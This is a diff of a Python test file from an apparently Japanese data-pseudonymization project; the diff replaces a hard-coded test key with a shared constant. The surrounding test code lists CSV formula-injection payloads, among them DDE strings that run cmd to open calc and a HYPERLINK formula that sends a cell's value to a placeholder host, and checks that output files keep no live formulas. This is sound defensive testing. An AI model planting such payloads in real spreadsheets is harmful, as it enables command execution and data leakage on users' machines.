@@ -26,6 +26,7 @@ from kogadx.privacy.policy import default_policy_path
 from kogadx.privacy.stage import PseudonymizeInputs, run_pseudonymize
 from kogadx.regulation.review import review_workbook
 from kogadx.stage import ExcelCsvFile
+from tests.helpers import TEST_KEY_HEX
 
 PAYLOADS = ["=CMD|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
             "\t=1+1", "\r=1+1", "\n=1+1", '=HYPERLINK("http://example.invalid/?q="&A1,"詳細")']
@@ -85,7 +86,7 @@ def test_pseudonymized_csv_keeps_no_live_formula(tmp_path):
     text["relationship"] = ["@SUM(1)", "=CMD|' /C calc'!A0", "+1", "世帯主"]  # a column the policy keeps
     outputs = run_pseudonymize(
         PseudonymizeInputs(tables={"residents.csv": text}, policy=default_policy_path().read_bytes(),
-                           key=KeyMaterial(env="5a" * 32), synthetic_demo=False),
+                           key=KeyMaterial(env=TEST_KEY_HEX), synthetic_demo=False),
         PseudonymizeParams(reference_date="2024-02-29"))
     outputs.files["pseudonymized/residents.csv"].write(tmp_path / "residents.csv")
     header, *rows = _rows(tmp_path / "residents.csv")
